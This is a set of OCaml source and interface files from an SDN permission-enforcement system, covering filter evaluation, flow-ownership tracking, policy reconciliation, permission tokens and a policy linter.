val ip_exact : field -> ipv4 -> expr
val int_field : field -> int -> expr
val own_flows : expr
val all_flows : expr

(** {1 Structure} *)

(** The attribute dimension a singleton inspects.  Two singletons can
    stand in an inclusion relation only when their dimensions match
    (Algorithm 1, §V-B1). *)
type dimension =
  | D_pred of field
  | D_wildcard of field
  | D_action
  | D_owner
  | D_max_priority
  | D_min_priority
  | D_rule_count
  | D_pkt_out
  | D_phys_topo
  | D_virt_topo
  | D_callback of callback_kind
  | D_stats
  | D_macro of string

val dimension : singleton -> dimension
val fold_atoms : ('a -> singleton -> 'a) -> 'a -> expr -> 'a

val macros : expr -> string list
(** Stub names appearing in the expression, sorted and deduplicated. *)

val has_macros : expr -> bool

val expand_macros :
  ?max_chain:int -> ?max_nodes:int -> (string -> expr option) -> expr -> expr
(** Substitute macro atoms using the lookup, expanding to fixed point:
    macros whose replacements contain macros keep expanding, so [LET]
    chains resolve fully.  Cyclic chains stop at the cycle and leave
    the inner occurrence unexpanded (it then reports as an unresolved
    stub — fail closed).  [max_chain] (default 64) caps substitution
    chain depth; [max_nodes] (default 200k) caps total nodes visited,
    degrading a doubling macro bomb to unexpanded stubs instead of
    exhausting memory.  Ticks the ambient {!Budget} per node.
    Unresolved macros remain. *)

val size : expr -> int
(** Node count (explicit work list — safe on adversarially deep
    expressions). *)

val depth : expr -> int
(** Maximum nesting depth, counting leaves as 1 (explicit work list —
    safe on adversarially deep expressions). *)

val equal_singleton : singleton -> singleton -> bool
val equal_expr : expr -> expr -> bool

(** {1 Pretty-printing} — permission-language concrete syntax, suitable
    for re-parsing. *)

val pp_singleton : Format.formatter -> singleton -> unit
val pp : Format.formatter -> expr -> unit
val to_string : expr -> string
