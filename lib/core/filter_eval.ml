(* Filter-expression evaluation: does this API call pass this filter?

   Evaluation is mostly pure over the call's attributes; the stateful
   dimensions (flow ownership, per-switch rule budgets) are answered
   through the [env] callbacks supplied by the permission engine, which
   keeps this module controller- and state-representation independent.

   Semantic conventions, per §IV-B:
   - a singleton on a dimension the call *kind* doesn't have passes
     vacuously (the filter "is only effective" on calls carrying the
     attribute);
   - a predicate filter on a dimension the call has but leaves
     unconstrained fails: the call would cover a broader range than the
     filter allows ("only allows API calls with narrower predicates to
     pass through");
   - read-type visibility filters (OWN_FLOWS on reads, topology sets on
     whole-network reads) pass at check time and are enforced by
     response filtering in the engine. *)

open Shield_openflow

type env = {
  owns_all_targeted : Attrs.t -> bool;
      (** Every existing rule this flow-mod overlaps/targets belongs to
          the calling app. *)
  rule_count : Types.dpid option -> int;
      (** Rules the calling app currently has installed at the switch. *)
}

(** Environment for stateless evaluation: ownership holds trivially and
    rule budgets are empty.  Used where only pure attributes matter. *)
let pure_env = { owns_all_targeted = (fun _ -> true); rule_count = (fun _ -> 0) }

let field_of_set_field : Action.set_field -> Filter.field = function
  | Action.Set_dl_src _ -> Filter.F_eth_src
  | Action.Set_dl_dst _ -> Filter.F_eth_dst
  | Action.Set_nw_src _ -> Filter.F_ip_src
  | Action.Set_nw_dst _ -> Filter.F_ip_dst
  | Action.Set_tp_src _ -> Filter.F_tcp_src
  | Action.Set_tp_dst _ -> Filter.F_tcp_dst

let eval_pred ~field ~value ~mask (attrs : Attrs.t) =
  if not (Attrs.has_header_dimension attrs) then true
  else
    match Attrs.field_value attrs field with
    | Attrs.No_dimension -> true
    | Attrs.Unconstrained -> false
    | Attrs.Ip_range (addr, call_mask) -> (
      match value with
      | Filter.V_ip faddr ->
        let fmask = Option.value mask ~default:0xFFFFFFFFl in
        (* Call range ⊆ filter range: the filter's mask bits must all be
           fixed by the call, to the filter's values. *)
        Int32.logand fmask (Int32.lognot call_mask) = 0l
        && Int32.logand addr fmask = Int32.logand faddr fmask
      | Filter.V_int _ -> false)
    | Attrs.Exact_int i -> (
      match value with
      | Filter.V_int v -> i = v
      | Filter.V_ip ip -> Int32.of_int i = ip)

let eval_wildcard ~field ~mask (attrs : Attrs.t) =
  match attrs.kind with
  | Attrs.K_insert_flow | Attrs.K_delete_flow -> (
    match Attrs.field_value attrs field with
    | Attrs.No_dimension | Attrs.Unconstrained -> true
    | Attrs.Ip_range (_, call_mask) -> Int32.logand call_mask mask = 0l
    | Attrs.Exact_int _ -> mask = 0l)
  | _ -> true

let action_allowed kind (a : Action.t) =
  match (kind, a) with
  | Filter.A_drop, _ -> false (* drop = empty list, handled separately *)
  | Filter.A_forward, (Action.Output _ | Action.Flood) -> true
  | Filter.A_forward, _ -> false
  | Filter.A_modify f, Action.Set sf -> field_of_set_field sf = f
  | Filter.A_modify _, (Action.Output _ | Action.Flood) -> true
  | Filter.A_modify _, Action.To_controller -> false

let eval_action kind (attrs : Attrs.t) =
  match attrs.actions with
  | None -> true
  | Some actions -> (
    match kind with
    | Filter.A_drop -> actions = []
    | _ -> actions <> [] && List.for_all (action_allowed kind) actions)

let eval_owner env ownership (attrs : Attrs.t) =
  match ownership with
  | Filter.All_flows -> true
  | Filter.Own_flows -> (
    match attrs.kind with
    | Attrs.K_insert_flow | Attrs.K_delete_flow -> env.owns_all_targeted attrs
    | _ when attrs.cookie <> None ->
      (* Vetting an existing entry's visibility: ask the engine whether
         the entry's owner is the calling app. *)
      env.owns_all_targeted attrs
    | _ -> true (* read calls: visibility filtering at the response *))

let eval_topo_member switches (attrs : Attrs.t) =
  match attrs.dpid with
  | None -> true (* whole-network reads: response filtering *)
  | Some d -> Filter.Int_set.mem d switches

(** Datapath id used by apps confined to a single virtual big switch. *)
let virtual_big_switch_dpid = 1000

let eval_virt_topo vt (attrs : Attrs.t) =
  match attrs.dpid with
  | None -> true
  | Some d -> (
    match vt with
    | Filter.Single_big_switch -> d = virtual_big_switch_dpid
    | Filter.Switch_groups groups -> List.exists (fun (_, vid) -> d = vid) groups)

let eval_singleton env (s : Filter.singleton) (attrs : Attrs.t) =
  match s with
  | Filter.Pred { field; value; mask } -> eval_pred ~field ~value ~mask attrs
  | Filter.Wildcard { field; mask } -> eval_wildcard ~field ~mask attrs
  | Filter.Action_f kind -> eval_action kind attrs
  | Filter.Owner o -> eval_owner env o attrs
  | Filter.Max_priority n -> (
    match attrs.priority with Some p -> p <= n | None -> true)
  | Filter.Min_priority n -> (
    match attrs.priority with Some p -> p >= n | None -> true)
  | Filter.Max_rule_count n -> (
    match (attrs.kind, attrs.flow_command) with
    | Attrs.K_insert_flow, Some Flow_mod.Add -> env.rule_count attrs.dpid < n
    | _ -> true)
  | Filter.Pkt_out k -> (
    match (k, attrs.from_pkt_in) with
    | Filter.Arbitrary, _ -> true
    | Filter.From_pkt_in, Some b -> b
    | Filter.From_pkt_in, None -> true)
  | Filter.Phys_topo { switches; _ } -> eval_topo_member switches attrs
  | Filter.Virt_topo vt -> eval_virt_topo vt attrs
  | Filter.Callback _ -> true (* capability marker; see DESIGN.md *)
  | Filter.Stats_level l -> (
    match attrs.stats_level with Some l' -> l = l' | None -> true)
  | Filter.Macro _ -> false (* unresolved stub: deny closed *)

let rec eval env (expr : Filter.expr) (attrs : Attrs.t) =
  match expr with
  | Filter.True -> true
  | Filter.False -> false
  | Filter.Atom s -> eval_singleton env s attrs
  | Filter.And (a, b) -> eval env a attrs && eval env b attrs
  | Filter.Or (a, b) -> eval env a attrs || eval env b attrs
  | Filter.Not e -> not (eval env e attrs)

(* Explanation ---------------------------------------------------------------

   [explain] answers "which top-level clause decided?" in the
   permission language's own concrete syntax.  The manifest reconciler
   emits filters as a top-level disjunction of per-policy clauses (or a
   conjunction, for intersected policies), so naming the first passing
   disjunct / first failing conjunct points at the exact policy line
   responsible.  The verdict is the same [eval] computes: a clause is
   judged by [eval] itself, and or/and distribute over clause lists. *)

let rec disjuncts = function
  | Filter.Or (a, b) -> disjuncts a @ disjuncts b
  | e -> [ e ]

let rec conjuncts = function
  | Filter.And (a, b) -> conjuncts a @ conjuncts b
  | e -> [ e ]

(** [explain env expr attrs] — the {!eval} verdict plus a one-line
    account of the deciding top-level clause, in re-parsable filter
    syntax. *)
let explain env (expr : Filter.expr) (attrs : Attrs.t) : bool * string =
  match expr with
  | Filter.True -> (true, "filter is TRUE (unconditional grant)")
  | Filter.False -> (false, "filter is FALSE (granted nowhere)")
  | Filter.Or _ ->
    let cs = disjuncts expr in
    let n = List.length cs in
    let rec go i = function
      | [] -> (false, Printf.sprintf "none of %d clauses passed" n)
      | c :: rest ->
        if eval env c attrs then
          (true,
           Printf.sprintf "clause %d/%d passed: %s" i n (Filter.to_string c))
        else go (i + 1) rest
    in
    go 1 cs
  | Filter.And _ ->
    let cs = conjuncts expr in
    let n = List.length cs in
    let rec go i = function
      | [] -> (true, Printf.sprintf "all %d clauses passed" n)
      | c :: rest ->
        if eval env c attrs then go (i + 1) rest
        else
          (false,
           Printf.sprintf "clause %d/%d failed: %s" i n (Filter.to_string c))
    in
    go 1 cs
  | e ->
    let pass = eval env e attrs in
    ( pass,
      Printf.sprintf "filter %s: %s"
        (if pass then "passed" else "failed")
        (Filter.to_string e) )
