(* Flow ownership and rule-budget bookkeeping.

   "Ownership filter inspects and keeps track of the issuers of all the
   existing flows" (§IV-B).  The permission engine records every
   approved flow-mod here, independent of any controller, so that
   OWN_FLOWS and MAX_RULE_COUNT filters can be answered without
   querying switch state.  The whole store can be snapshotted and
   restored, which is how transactional checking rolls back. *)

open Shield_openflow
open Shield_openflow.Types

type rule = { match_ : Match_fields.t; priority : int; cookie : int }

type t = {
  mutable rules : (dpid, rule list) Hashtbl.t;
      (** Only read/written under [mutex].  The field is [mutable] only
          so {!restore} can swap in a snapshot table — also under the
          lock, after its bump — so there is no unsynchronized access
          to the table or the field; [generation] is the one value read
          outside the lock. *)
  generation : int Atomic.t;
      (** Bumped on every mutation (inside the store's lock, before the
          mutation lands).  Decision caches gate entries whose filters
          inspect ownership state (OWN_FLOWS, MAX_RULE_COUNT) on this
          counter: an entry recorded at generation [g] is served only
          while the store is still at [g], so a cached decision can
          never outlive the state it was derived from.  Atomic so the
          checking hot path reads it without taking the store's lock.

          The bump-BEFORE-mutate ordering is load-bearing, not
          stylistic.  The counter is monotone and moves strictly before
          the state it describes, so for any observer: if two counter
          reads bracketing a locked read of the table agree on [g],
          the table content seen is exactly the generation-[g] state —
          no mutation can land between them without moving the
          counter first.  A cache entry tagged with a generation
          captured before its evaluation is therefore served only when
          re-evaluating now would read the same state (equivalently:
          entries are over-invalidated under races, never stale-served).
          With the reversed order (mutate, then bump) there would be a
          window where the table had changed but the counter had not,
          and a concurrently cached old decision would be served as
          current.  The two-domain hammer in test/test_ownership.ml
          pins this ordering: each writer mutation adds exactly one
          rule, so a reader whose bracketing generation reads agree
          must see [count = generation]. *)
  mutex : Mutex.t;
}

let create () =
  { rules = Hashtbl.create 16; generation = Atomic.make 0;
    mutex = Mutex.create () }

let with_lock t f =
  Mutex.lock t.mutex;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.mutex) f

let rules_at_unlocked t dpid = Option.value ~default:[] (Hashtbl.find_opt t.rules dpid)

let rules_at t dpid = with_lock t (fun () -> rules_at_unlocked t dpid)

let generation t = Atomic.get t.generation

let all_rules t =
  with_lock t (fun () ->
      Hashtbl.fold (fun d rs acc -> List.map (fun r -> (d, r)) rs @ acc) t.rules [])

(** Record the effect of an approved flow-mod on the ownership store. *)
let record t ~dpid (fm : Flow_mod.t) ~cookie =
  let cookie = if fm.Flow_mod.cookie <> 0 then fm.Flow_mod.cookie else cookie in
  with_lock t (fun () ->
      let existing = rules_at_unlocked t dpid in
      let updated =
        match fm.Flow_mod.command with
        | Flow_mod.Add ->
          { match_ = fm.Flow_mod.match_; priority = fm.Flow_mod.priority;
            cookie }
          :: List.filter
               (fun r ->
                 not
                   (r.priority = fm.Flow_mod.priority
                   && Match_fields.equal r.match_ fm.Flow_mod.match_))
               existing
        | Flow_mod.Modify ->
          List.map
            (fun r ->
              if Match_fields.subsumes ~outer:fm.Flow_mod.match_ ~inner:r.match_
              then { r with cookie }
              else r)
            existing
        | Flow_mod.Delete ->
          List.filter
            (fun r ->
              not
                (Match_fields.subsumes ~outer:fm.Flow_mod.match_
                   ~inner:r.match_))
            existing
      in
      Atomic.incr t.generation;
      Hashtbl.replace t.rules dpid updated)

(** Drop a rule that timed out on the switch (flow-removed event). *)
let forget t ~dpid ~match_ ~cookie =
  with_lock t (fun () ->
      Atomic.incr t.generation;
      Hashtbl.replace t.rules dpid
        (List.filter
           (fun r ->
             not (r.cookie = cookie && Match_fields.equal r.match_ match_))
           (rules_at_unlocked t dpid)))

(** Are all existing rules this flow-mod touches owned by [cookie]?

    - Add: the new rule must not overlap any other app's rule (so an
      app confined to its own flows cannot shadow or bypass others'
      rules — the dynamic-flow-tunnel defence of §VII Scenario 2);
    - Modify/Delete: every targeted (subsumed) rule must be owned. *)
let owns_all_targeted t ~cookie ~dpid ~command ~match_ =
  with_lock t (fun () ->
      let rules = rules_at_unlocked t dpid in
      match (command : Flow_mod.command) with
      | Flow_mod.Add ->
        List.for_all
          (fun r ->
            r.cookie = cookie || not (Match_fields.compatible r.match_ match_))
          rules
      | Flow_mod.Modify | Flow_mod.Delete ->
        List.for_all
          (fun r ->
            r.cookie = cookie
            || not (Match_fields.subsumes ~outer:match_ ~inner:r.match_))
          rules)

(** Rules currently attributed to [cookie] at [dpid] ([None] = domain
    total), for the MAX_RULE_COUNT budget. *)
let count t ~cookie ~dpid =
  with_lock t (fun () ->
      match dpid with
      | Some d ->
        List.length (List.filter (fun r -> r.cookie = cookie) (rules_at_unlocked t d))
      | None ->
        Hashtbl.fold
          (fun _ rs acc ->
            acc + List.length (List.filter (fun r -> r.cookie = cookie) rs))
          t.rules 0)

(* Transactional snapshot/rollback. *)
type snapshot = (dpid, rule list) Hashtbl.t

let snapshot t : snapshot = with_lock t (fun () -> Hashtbl.copy t.rules)

let restore t (s : snapshot) =
  with_lock t (fun () ->
      Atomic.incr t.generation;
      t.rules <- s)
