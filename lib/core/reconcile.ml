(* The reconciliation engine (§V-B2).

   Inputs: the apps' requested permission manifests and the
   administrator's security policy.  The engine
     1. expands developer stub macros with the administrator's LET
        bindings (permission customization),
     2. verifies every ASSERT against the (current) manifests,
     3. repairs violations — boundary violations by intersecting the
        manifest with the boundary, mutual-exclusion violations by
        truncating the second exclusive permission set (the behaviour
        shown in the paper's Scenario 1, where insert_flow is
        truncated),
   and reports every violation with the before/after permissions so the
   administrator can review the reconciled result. *)

type action =
  | Truncated_to_boundary
  | Truncated_exclusive
  | Alert_only  (** No automatic repair applicable. *)
  | Policy_error
      (** The statement itself could not be evaluated (unbound
          variable, filter macro used as a permission set, cyclic
          binding).  The statement is skipped and reported; the rest of
          the policy is still verified and repaired. *)

type violation = {
  stmt : Policy.stmt;
  app : string option;
  message : string;
  action : action;
  before : Perm.manifest;
  after : Perm.manifest;
}

type report = {
  manifests : (string * Perm.manifest) list;  (** Reconciled results. *)
  violations : violation list;
  unresolved_macros : (string * string list) list;  (** app, stubs. *)
}

let ok report = report.violations = [] && report.unresolved_macros = []

(* Evaluation environment. *)
type env = {
  mutable filter_macros : (string * Filter.expr) list;
  mutable perm_vars : (string * Policy.perm_expr) list;
  mutable app_vars : (string * string) list;  (** var -> app name. *)
  mutable apps : (string * Perm.manifest) list;  (** live manifests. *)
}

let lookup_macro env name = List.assoc_opt name env.filter_macros

let app_manifest env name =
  match List.assoc_opt name env.apps with
  | Some m -> m
  | None -> []

let set_app_manifest env name m =
  env.apps <- (name, m) :: List.remove_assoc name env.apps

let expand env (m : Perm.manifest) =
  Perm.expand_macros (lookup_macro env) m

(* A statement that cannot be evaluated (unbound variable, macro used
   as a permission set, cyclic binding) must not abort reconciliation
   of the remaining statements — policies are admitted from outside the
   trust boundary (docs/VETTING.md).  Evaluation raises this internal
   exception; the per-statement driver in [run] converts it into a
   [Policy_error] violation and moves on. *)
exception Policy_eval_error of string

(** Evaluate a permission expression to a manifest under [env].  App
    references resolve to the app's *current* (possibly already
    repaired) manifest.  Returns the manifest and, when the expression
    is a direct reference to a single app, that app's name (the repair
    target for boundary assertions).  [seen] tracks the LET-variable
    chain being resolved, so cyclic bindings (LET a = b; LET b = a)
    fail with a report instead of looping. *)
let rec eval_perm_expr ?(seen = []) env (pe : Policy.perm_expr) :
    Perm.manifest * string option =
  Budget.step ();
  match pe with
  | Policy.P_block m -> (expand env m, None)
  | Policy.P_meet (a, b) ->
    let ma, _ = eval_perm_expr ~seen env a
    and mb, _ = eval_perm_expr ~seen env b in
    (Perm_ops.meet ma mb, None)
  | Policy.P_join (a, b) ->
    let ma, _ = eval_perm_expr ~seen env a
    and mb, _ = eval_perm_expr ~seen env b in
    (Perm_ops.join ma mb, None)
  | Policy.P_var v -> (
    match List.assoc_opt v env.app_vars with
    | Some app -> (app_manifest env app, Some app)
    | None -> (
      match List.assoc_opt v env.perm_vars with
      | Some pe' ->
        if List.mem v seen then
          raise
            (Policy_eval_error (Printf.sprintf "policy: cyclic binding %s" v))
        else eval_perm_expr ~seen:(v :: seen) env pe'
      | None -> (
        match lookup_macro env v with
        | Some _ ->
          raise
            (Policy_eval_error
               (Printf.sprintf
                  "policy: %s is a filter macro, not a permission set" v))
        | None ->
          raise
            (Policy_eval_error
               (Printf.sprintf "policy: unbound variable %s" v)))))

let eval_cmp env lhs op rhs : bool =
  let ml, _ = eval_perm_expr env lhs and mr, _ = eval_perm_expr env rhs in
  match op with
  | Policy.C_le -> Inclusion.manifest_includes mr ml
  | Policy.C_ge -> Inclusion.manifest_includes ml mr
  | Policy.C_eq -> Inclusion.manifest_equal ml mr
  | Policy.C_lt ->
    Inclusion.manifest_includes mr ml && not (Inclusion.manifest_includes ml mr)
  | Policy.C_gt ->
    Inclusion.manifest_includes ml mr && not (Inclusion.manifest_includes mr ml)

let rec eval_assert env = function
  | Policy.A_cmp (l, op, r) -> eval_cmp env l op r
  | Policy.A_and (a, b) -> eval_assert env a && eval_assert env b
  | Policy.A_or (a, b) -> eval_assert env a || eval_assert env b
  | Policy.A_not a -> not (eval_assert env a)

(* Constraint handling ------------------------------------------------------ *)

let handle_exclusive env stmt p1 p2 acc =
  let m1, _ = eval_perm_expr env p1 and m2, _ = eval_perm_expr env p2 in
  List.fold_left
    (fun acc (name, manifest) ->
      if
        Inclusion.manifests_overlap manifest m1
        && Inclusion.manifests_overlap manifest m2
      then begin
        (* Repair: truncate the second exclusive permission set, as the
           paper does for Scenario 1. *)
        let repaired = Perm_ops.simplify (Perm_ops.subtract manifest m2) in
        set_app_manifest env name repaired;
        { stmt; app = Some name;
          message =
            Fmt.str "app %s possesses mutually exclusive permissions %a / %a"
              name Policy.pp_perm_expr p1 Policy.pp_perm_expr p2;
          action = Truncated_exclusive; before = manifest; after = repaired }
        :: acc
      end
      else acc)
    acc env.apps

let handle_boundary env stmt lhs op rhs acc =
  if eval_cmp env lhs op rhs then acc
  else
    let ml, target = eval_perm_expr env lhs in
    match (op, target) with
    | (Policy.C_le | Policy.C_lt), Some app ->
      let bound, _ = eval_perm_expr env rhs in
      let repaired = Perm_ops.simplify (Perm_ops.meet ml bound) in
      set_app_manifest env app repaired;
      { stmt; app = Some app;
        message =
          Fmt.str "app %s exceeds permission boundary %a" app
            Policy.pp_perm_expr rhs;
        action = Truncated_to_boundary; before = ml; after = repaired }
      :: acc
    | _ ->
      { stmt; app = None;
        message = Fmt.str "assertion failed: %a" Policy.pp_stmt stmt;
        action = Alert_only; before = ml; after = ml }
      :: acc

let handle_assert env stmt ae acc =
  match ae with
  | Policy.A_cmp (lhs, op, rhs) -> handle_boundary env stmt lhs op rhs acc
  | _ ->
    if eval_assert env ae then acc
    else
      { stmt; app = None;
        message = Fmt.str "assertion failed: %a" Policy.pp_stmt stmt;
        action = Alert_only; before = []; after = [] }
      :: acc

(* Binding collection (LETs may appear anywhere in the file). *)
let collect_bindings env (policy : Policy.t) =
  List.iter
    (function
      | Policy.Let (v, Policy.B_filter f) ->
        env.filter_macros <- (v, f) :: env.filter_macros
      | Policy.Let (v, Policy.B_app name) ->
        env.app_vars <- (v, name) :: env.app_vars
      | Policy.Let (v, Policy.B_perm pe) ->
        env.perm_vars <- (v, pe) :: env.perm_vars
      | Policy.Assert_exclusive _ | Policy.Assert _ -> ())
    policy

(** Reconcile [apps]' manifests against [policy]. *)
let run ~(apps : (string * Perm.manifest) list) (policy : Policy.t) : report =
  let env = { filter_macros = []; perm_vars = []; app_vars = []; apps } in
  (* Pass 1: collect bindings. *)
  collect_bindings env policy;
  (* Pass 2: expand developer stubs in every manifest. *)
  Budget.set_stage "expand";
  env.apps <- List.map (fun (name, m) -> (name, expand env m)) env.apps;
  let unresolved_macros =
    List.filter_map
      (fun (name, m) ->
        match Perm.macros m with [] -> None | ms -> Some (name, ms))
      env.apps
  in
  (* Pass 3: verify and repair constraints in order.  A statement that
     cannot be evaluated is reported as a [Policy_error] violation and
     skipped — it must not abort repair of the rest. *)
  Budget.set_stage "reconcile";
  let violations =
    List.fold_left
      (fun acc stmt ->
        Budget.step ();
        match
          match stmt with
          | Policy.Let _ -> acc
          | Policy.Assert_exclusive (p1, p2) ->
            handle_exclusive env stmt p1 p2 acc
          | Policy.Assert ae -> handle_assert env stmt ae acc
        with
        | acc' -> acc'
        | exception Policy_eval_error msg ->
          { stmt; app = None; message = msg; action = Policy_error;
            before = []; after = [] }
          :: acc)
      [] policy
    |> List.rev
  in
  { manifests = env.apps; violations; unresolved_macros }

(** Convenience: reconcile one app's manifest source against a policy
    source; returns the reconciled manifest and report. *)
let run_strings ~app_name ~manifest_src ~policy_src :
    (Perm.manifest * report, string) result =
  match Perm_parser.manifest_of_string manifest_src with
  | Error e -> Error ("manifest: " ^ e)
  | Ok manifest -> (
    match Policy_parser.of_string policy_src with
    | Error e -> Error ("policy: " ^ e)
    | Ok policy ->
      let report = run ~apps:[ (app_name, manifest) ] policy in
      Ok (List.assoc app_name report.manifests, report))

(* Read-only policy evaluation — the handle {!Verify} uses to resolve
   permission expressions against a fixed (already reconciled) set of
   manifests with the same LET-binding, macro-expansion and
   cycle-detection machinery the repair passes use.  Evaluation never
   mutates the manifests: verification must observe the manifests as
   given, not repair them again. *)
module Env = struct
  type nonrec t = env

  let create ~(apps : (string * Perm.manifest) list) (policy : Policy.t) : t =
    let env = { filter_macros = []; perm_vars = []; app_vars = []; apps } in
    collect_bindings env policy;
    env

  let apps (env : t) = env.apps

  let manifest_of (env : t) (pe : Policy.perm_expr) :
      (Perm.manifest * string option, string) result =
    match eval_perm_expr env pe with
    | m, target -> Ok (m, target)
    | exception Policy_eval_error msg -> Error msg
end

let pp_action ppf = function
  | Truncated_to_boundary -> Fmt.string ppf "truncated-to-boundary"
  | Truncated_exclusive -> Fmt.string ppf "truncated-exclusive"
  | Alert_only -> Fmt.string ppf "alert-only"
  | Policy_error -> Fmt.string ppf "policy-error"

let pp_violation ppf v =
  Fmt.pf ppf "@[<v2>[%a] %s%a@]" pp_action v.action v.message
    Fmt.(
      option (fun ppf app -> pf ppf " (app %s)" app))
    v.app

let pp_report ppf r =
  Fmt.pf ppf "@[<v>%a@,%a@]"
    Fmt.(list pp_violation)
    r.violations
    Fmt.(
      list (fun ppf (name, m) ->
          pf ppf "@[<v2>reconciled %s:@,%a@]" name Perm.pp m))
    r.manifests
