(** Permission tokens — the coarse-grained privileges of §IV-A
    (Table II).

    Tokens are organised along two dimensions, SDN resource × action
    (read / write / event notification), plus three host-system tokens
    bounding the app's syscall surface.  Tokens are orthogonal: no
    token implies another. *)

type t =
  | Read_flow_table
  | Insert_flow  (** Rule insertion, including modification (Table II). *)
  | Delete_flow
  | Flow_event  (** Flow-removal callback notifications. *)
  | Visible_topology  (** Topology reads, possibly partial or virtual. *)
  | Modify_topology  (** Change the controller's view of the topology. *)
  | Topology_event
  | Read_statistics
  | Error_event
  | Read_payload  (** Payload bytes of packet-in messages. *)
  | Send_pkt_out
  | Pkt_in_event
  | Host_network  (** Network access outside the control channel. *)
  | File_system
  | Process_runtime

val all : t list
(** Every token, in declaration order. *)

val to_string : t -> string
(** Canonical (paper) spelling, e.g. ["insert_flow"]. *)

val count : int
(** Number of tokens. *)

val index : t -> int
(** Declaration-order index in [0, count), for token-indexed dispatch
    arrays on the checking hot path. *)

val of_string : string -> t option
(** Parse a token name.  Accepts the paper's synonyms
    ([network_access], [read_topology], [send_packet_out]) so its
    policy listings parse verbatim.  Case-insensitive. *)

val compare : t -> t -> int
val equal : t -> t -> bool
val pp : Format.formatter -> t -> unit

module Set : Set.S with type elt = t
module Map : Map.S with type key = t
