(* Shield-lint — semantic static analysis of manifests and policies.

   See lint.mli / docs/LINTING.md for the model.  The pass reuses the
   reconciliation engine's own machinery — Nf normal forms, Inclusion's
   sound singleton/clause comparisons, Infer's least-privilege
   synthesis — so a lint verdict agrees with what enforcement would
   later do; there is no parallel "checking" semantics to drift.

   Fail-degraded discipline: each entry point installs its own
   {!Budget} scope (nested scopes are fine — the vetting pipeline's
   budget is not charged for advisory work), and every rule is run
   under an exception barrier.  A rule whose analysis exceeds the
   budget ([Nf.Too_large], [Budget.Exhausted], even a stray
   [Stack_overflow]) reports one [Info] "unverified" finding and the
   remaining rules still run.  Lint never raises and never rejects. *)

module M = Shield_controller.Metrics
module Json = Shield_controller.Telemetry.Json
module Api = Shield_controller.Api

(* Rule catalogue ------------------------------------------------------------- *)

type rule =
  | Unsatisfiable_filter
  | Vacuous_filter
  | Shadowed_clause
  | Redundant_refinement
  | Over_privilege
  | Dead_binding
  | Self_meet_join
  | Overlapping_exclusive

let all_rules =
  [ Unsatisfiable_filter; Vacuous_filter; Shadowed_clause;
    Redundant_refinement; Over_privilege; Dead_binding; Self_meet_join;
    Overlapping_exclusive ]

let rule_id = function
  | Unsatisfiable_filter -> "unsatisfiable-filter"
  | Vacuous_filter -> "vacuous-filter"
  | Shadowed_clause -> "shadowed-clause"
  | Redundant_refinement -> "redundant-refinement"
  | Over_privilege -> "over-privilege"
  | Dead_binding -> "dead-binding"
  | Self_meet_join -> "self-meet-join"
  | Overlapping_exclusive -> "overlapping-exclusive"

let rule_of_id s =
  List.find_opt (fun r -> rule_id r = s) all_rules

let rule_doc = function
  | Unsatisfiable_filter ->
    "A conjunction demands range-disjoint singletons on one dimension \
     (or complementary literals): no call carrying the dimension can \
     satisfy it."
  | Vacuous_filter ->
    "A non-trivial filter (or one of its CNF clauses) is implied by \
     TRUE — e.g. x OR NOT x — and restricts nothing."
  | Shadowed_clause ->
    "A DNF clause is included by an earlier clause of the same filter: \
     dead syntax that cannot change any decision."
  | Redundant_refinement ->
    "The filter only inspects dimensions the token's calls never \
     carry; under vacuous-pass every call passes, so the grant is \
     effectively unrestricted."
  | Over_privilege ->
    "The manifest strictly exceeds the least-privilege manifest \
     inferred from the supplied behaviour trace."
  | Dead_binding ->
    "A policy LET binding that no statement (and no supplied app \
     manifest) ever references."
  | Self_meet_join ->
    "MEET or JOIN of an expression with itself is a no-op."
  | Overlapping_exclusive ->
    "The two sides of ASSERT EITHER share allowed behaviour; \
     reconciliation would silently truncate the overlap."

(* Findings ------------------------------------------------------------------- *)

type severity = Error | Warn | Info

let severity_label = function Error -> "error" | Warn -> "warn" | Info -> "info"

let severity_of_label = function
  | "error" -> Some Error
  | "warn" | "warning" -> Some Warn
  | "info" | "note" -> Some Info
  | _ -> None

type finding = {
  rule : rule;
  severity : severity;
  location : string;
  message : string;
  suggestion : string option;
  witnesses : Diff.witness list;
}

let count sev fs = List.length (List.filter (fun f -> f.severity = sev) fs)

(* CI-gate counting: witness-bearing findings collapse to one per
   rule.  Upgrading a rule from a lattice claim to N confirmed witness
   calls must not inflate the numbers a --deny gate keys on. *)
let gate_count sev fs =
  let at_sev = List.filter (fun f -> f.severity = sev) fs in
  let bare, witnessed = List.partition (fun f -> f.witnesses = []) at_sev in
  let rules =
    List.sort_uniq compare (List.map (fun f -> f.rule) witnessed)
  in
  List.length bare + List.length rules

let severity_rank = function Error -> 2 | Warn -> 1 | Info -> 0

let max_severity = function
  | [] -> None
  | f :: fs ->
    Some
      (List.fold_left
         (fun best g ->
           if severity_rank g.severity > severity_rank best then g.severity
           else best)
         f.severity fs)

let has_rule r fs = List.exists (fun f -> f.rule = r) fs

(* Counters ------------------------------------------------------------------- *)

(* Same pattern as the Vetting stage counters: monotone ints surfaced
   through the gauge registry (depth = hwm = count), registered lazily
   so only rules that actually fired appear in the telemetry. *)
let counters_mutex = Mutex.create ()
let counters : (string, int ref) Hashtbl.t = Hashtbl.create 24

let bump name =
  Mutex.lock counters_mutex;
  (match Hashtbl.find_opt counters name with
  | Some c -> incr c
  | None ->
    let c = ref 1 in
    Hashtbl.add counters name c;
    M.register_gauge name (fun () -> { M.depth = !c; hwm = !c }));
  Mutex.unlock counters_mutex

let count_findings fs =
  List.iter
    (fun f ->
      bump
        (Printf.sprintf "lint-%s:%s" (severity_label f.severity)
           (rule_id f.rule)))
    fs

let stats () =
  Mutex.lock counters_mutex;
  let s = Hashtbl.fold (fun name c acc -> (name, !c) :: acc) counters [] in
  Mutex.unlock counters_mutex;
  List.sort compare (List.filter (fun (_, n) -> n > 0) s)

let reset_counters () =
  Mutex.lock counters_mutex;
  Hashtbl.iter (fun _ c -> c := 0) counters;
  Mutex.unlock counters_mutex

(* Small rendering helpers ---------------------------------------------------- *)

let ellipsize ?(max = 120) s =
  if String.length s <= max then s else String.sub s 0 (max - 3) ^ "..."

let singleton_str s = ellipsize (Fmt.to_to_string Filter.pp_singleton s)
let filter_str f = ellipsize (Fmt.to_to_string Filter.pp f)

let clause_str (c : Nf.clause) =
  ellipsize
    (String.concat " AND " (List.map (Fmt.to_to_string Nf.pp_literal) c))

let finding ?suggestion ?(witnesses = []) rule severity location message =
  { rule; severity; location; message; suggestion; witnesses }

let unverified rule location message =
  finding rule Info location ("unverified: " ^ message)

